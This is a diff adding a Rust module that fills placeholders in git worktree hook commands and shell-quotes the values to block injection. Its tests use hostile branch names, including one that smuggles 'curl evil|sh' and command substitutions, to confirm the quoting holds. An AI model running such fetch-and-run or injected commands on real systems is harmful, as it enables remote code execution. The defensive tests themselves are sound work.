@@ -0,0 +1,259 @@
+//! Placeholder substitution in `run` hooks
+//!
+//! `{branch}`, `{worktree}`, `{repo}` and `{repo_root}` are replaced before a
+//! command reaches the shell, like the `{repo}` / `{branch}` variables of
+//! `worktree.dir`. `{{` and `}}` produce literal braces; any other `{...}` is
+//! left alone so shell syntax such as `${HOME}` or `{a,b}` keeps working.
+//!
+//! In shell-string commands every value is shell-quoted: branch names come
+//! from git (or from a fork's pull request) and may contain `;`, `$(...)` or
+//! spaces. Argv commands receive the values verbatim.
+
+use std::borrow::Cow;
+use std::path::Path;
+
+use crate::config::{HookActions, RunCommand};
+use crate::path_utils::normalize_absolute_path;
+
+/// Values for the placeholders of one hook invocation
+#[derive(Debug, Clone, Default, PartialEq, Eq)]
+pub struct HookVars {
+    /// Branch of the worktree (empty for a detached HEAD)
+    pub branch: String,
+    /// Absolute worktree path
+    pub worktree: String,
+    /// Repository directory name
+    pub repo: String,
+    /// Absolute path of the main repository
+    pub repo_root: String,
+    /// Extra environment variables for `run` commands, such as `OFSHT_GH_*`
+    pub env: Vec<(&'static str, String)>,
+}
+
+impl HookVars {
+    #[must_use]
+    pub fn new(branch: Option<&str>, worktree_path: &Path, repo_root: &Path) -> Self {
+        Self {
+            branch: branch.unwrap_or_default().to_string(),
+            worktree: normalize_absolute_path(worktree_path),
+            repo: repo_root
+                .file_name()
+                .map(|n| n.to_string_lossy().into_owned())
+                .unwrap_or_default(),
+            repo_root: normalize_absolute_path(repo_root),
+            env: Vec::new(),
+        }
+    }
+
+    /// Add environment variables for the `run` commands of this invocation
+    #[must_use]
+    pub fn with_env(mut self, env: impl IntoIterator<Item = (&'static str, String)>) -> Self {
+        self.env.extend(env);
+        self
+    }
+
+    fn lookup(&self, name: &str) -> Option<&str> {
+        match name {
+            "branch" => Some(&self.branch),
+            "worktree" => Some(&self.worktree),
+            "repo" => Some(&self.repo),
+            "repo_root" => Some(&self.repo_root),
+            _ => None,
+        }
+    }
+}
+
+/// Quote `value` for interpolation into an `sh -c` command
+///
+/// Values made only of characters the shell never interprets (e.g.
+/// `feat/login-2`) are left bare; everything else is single-quoted.
+#[must_use]
+pub fn shell_quote(value: &str) -> Cow<'_, str> {
+    let is_safe = |c: char| c.is_ascii_alphanumeric() || "_-./,:=@%+".contains(c);
+    if !value.is_empty() && value.chars().all(is_safe) {
+        Cow::Borrowed(value)
+    } else {
+        Cow::Owned(format!("'{}'", value.replace('\'', r"'\''")))
+    }
+}
+
+/// Substitute placeholders in a single `run` string, inserting values verbatim
+#[must_use]
+pub fn expand_placeholders(template: &str, vars: &HookVars) -> String {
+    expand(template, vars, false)
+}
+
+/// Substitute placeholders in a shell-string `run` command, shell-quoting each value
+#[must_use]
+pub fn expand_shell_placeholders(template: &str, vars: &HookVars) -> String {
+    expand(template, vars, true)
+}
+
+fn expand(template: &str, vars: &HookVars, quote: bool) -> String {
+    let mut out = String::with_capacity(template.len());
+    let mut rest = template;
+    while let Some(pos) = rest.find(['{', '}']) {
+        out.push_str(&rest[..pos]);
+        rest = &rest[pos..];
+        if let Some(after) = rest.strip_prefix("{{") {
+            out.push('{');
+            rest = after;
+        } else if let Some(after) = rest.strip_prefix("}}") {
+            out.push('}');
+            rest = after;
+        } else if let Some((name, after)) = rest[1..]
+            .split_once('}')
+            .and_then(|(name, after)| Some((vars.lookup(name)?, after)))
+        {
+            if quote {
+                out.push_str(&shell_quote(name));
+            } else {
+                out.push_str(name);
+            }
+            rest = after;
+        } else {
+            out.push_str(&rest[..1]);
+            rest = &rest[1..];
+        }
+    }
+    out.push_str(rest);
+    out
+}
+
+/// Copy of `actions` with placeholders substituted in every `run` command
+/// (shell-quoted in shell strings; each argument of an argv command is
+/// substituted on its own, verbatim)
+#[must_use]
+pub fn with_placeholders(actions: &HookActions, vars: &HookVars) -> HookActions {
+    let run = actions
+        .run
+        .iter()
+        .map(|cmd| match cmd {
+            RunCommand::Shell(line) => RunCommand::Shell(expand_shell_placeholders(line, vars)),
+            RunCommand::Argv(argv) => RunCommand::Argv(
+                argv.iter()
+                    .map(|arg| expand_placeholders(arg, vars))
+                    .collect(),
+            ),
+        })
+        .collect();
+    HookActions {
+        run,
+        ..actions.clone()
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn vars() -> HookVars {
+        HookVars::new(
+            Some("feat/x"),
+            Path::new("/src/app-worktrees/feat/x"),
+            Path::new("/src/app"),
+        )
+    }
+
+    #[test]
+    fn test_known_placeholders_are_substituted() {
+        assert_eq!(
+            expand_placeholders("echo {branch} {worktree} {repo} {repo_root}", &vars()),
+            "echo feat/x /src/app-worktrees/feat/x app /src/app"
+        );
+        assert_eq!(
+            expand_placeholders("{branch}{branch}", &vars()),
+            "feat/xfeat/x"
+        );
+    }
+
+    #[test]
+    fn test_escaped_braces_survive() {
+        assert_eq!(
+            expand_placeholders("echo {{branch}}", &vars()),
+            "echo {branch}"
+        );
+        assert_eq!(
+            expand_placeholders("awk '{{ print }}'", &vars()),
+            "awk '{ print }'"
+        );
+        assert_eq!(expand_placeholders("{{{branch}}}", &vars()), "{feat/x}");
+    }
+
+    #[test]
+    fn test_unknown_and_shell_braces_are_untouched() {
+        assert_eq!(expand_placeholders("echo ${HOME}", &vars()), "echo ${HOME}");
+        assert_eq!(
+            expand_placeholders("cp a.{js,ts} b", &vars()),
+            "cp a.{js,ts} b"
+        );
+        assert_eq!(expand_placeholders("{unknown} {", &vars()), "{unknown} {");
+        assert_eq!(expand_placeholders("} {branch", &vars()), "} {branch");
+    }
+
+    #[test]
+    fn test_detached_branch_is_empty() {
+        let vars = HookVars::new(None, Path::new("/wt"), Path::new("/repo"));
+        assert_eq!(expand_placeholders("[{branch}]", &vars), "[]");
+    }
+
+    #[test]
+    fn test_shell_placeholders_quote_hostile_values() {
+        let hostile = HookVars::new(
+            Some("x;curl evil|sh $(id) `id` it's"),
+            Path::new("/src/my app-worktrees/x"),
+            Path::new("/src/my app"),
+        );
+        assert_eq!(
+            expand_shell_placeholders("echo {branch} > {worktree}/out", &hostile),
+            r"echo 'x;curl evil|sh $(id) `id` it'\''s' > '/src/my app-worktrees/x'/out"
+        );
+        assert_eq!(
+            expand_shell_placeholders("echo {branch} {repo}", &vars()),
+            "echo feat/x app"
+        );
+        let detached = HookVars::new(None, Path::new("/wt"), Path::new("/repo"));
+        assert_eq!(expand_shell_placeholders("[{branch}]", &detached), "['']");
+    }
+
+    #[cfg(unix)]
+    #[test]
+    fn test_shell_placeholders_do_not_run_branch_contents() {
+        let branch = "x;echo INJECTED|cat $(echo sub) `echo tick` 'q\"";
+        let vars = HookVars::new(Some(branch), Path::new("/wt"), Path::new("/repo"));
+        let output = std::process::Command::new("sh")
+            .arg("-c")
+            .arg(expand_shell_placeholders("printf %s {branch}", &vars))
+            .output()
+            .unwrap();
+        assert!(output.status.success());
+        assert_eq!(String::from_utf8(output.stdout).unwrap(), branch);
+    }
+
+    #[test]
+    fn test_with_placeholders_expands_shell_and_argv() {
+        let actions = HookActions {
+            run: vec![
+                RunCommand::Shell("echo {branch} {worktree}".to_string()),
+                RunCommand::Argv(vec!["echo".to_string(), "{repo} dir;{branch}".to_string()]),
+            ],
+            copy: vec!["{branch}.env".to_string()],
+            ..Default::default()
+        };
+        let vars = HookVars::new(
+            Some("a b"),
+            Path::new("/src/app-worktrees/a b"),
+            Path::new("/src/app"),
+        );
+        let expanded = with_placeholders(&actions, &vars);
+        assert_eq!(
+            expanded.run,
+            vec![
+                RunCommand::Shell("echo 'a b' '/src/app-worktrees/a b'".to_string()),
+                RunCommand::Argv(vec!["echo".to_string(), "app dir;a b".to_string()]),
+            ]
+        );
+        // Only run commands are templated
+        assert_eq!(expanded.copy, actions.copy);
+    }
+}